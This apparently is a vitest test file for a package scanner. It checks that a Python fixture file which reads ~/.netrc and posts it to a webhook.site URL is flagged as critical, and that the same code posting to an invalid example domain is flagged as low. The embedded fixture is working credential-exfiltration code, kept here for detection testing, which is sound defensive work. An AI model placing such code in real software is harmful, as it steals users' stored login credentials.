import { expect, test } from 'vitest';
import { foundIn } from './linked/found-in.js';

const others = Object.fromEntries(Array.from({ length: 30 }, (_, index) => [`plot/m${index}.py`, 'def area(width, height):\n    return width * height\n']));
const sending = (address: string): Record<string, string> => ({ ...others, 'plot/__init__.py': '', 'plot/report.py': `import os\nimport requests\n\n\ndef report():\n    requests.post("${address}", data=open(os.path.expanduser("~/.netrc")).read())\n` });

test('a function of a package of any size that sends secrets to an address which anybody can set up counts in full', async () => {
  expect(await foundIn(sending('https://webhook.site/1f0c'), 'credentials-to-network')).toEqual(['critical plot/report.py']);
  expect(await foundIn(sending('https://report.example.invalid/'), 'credentials-to-network')).toEqual(['low plot/report.py']);
});
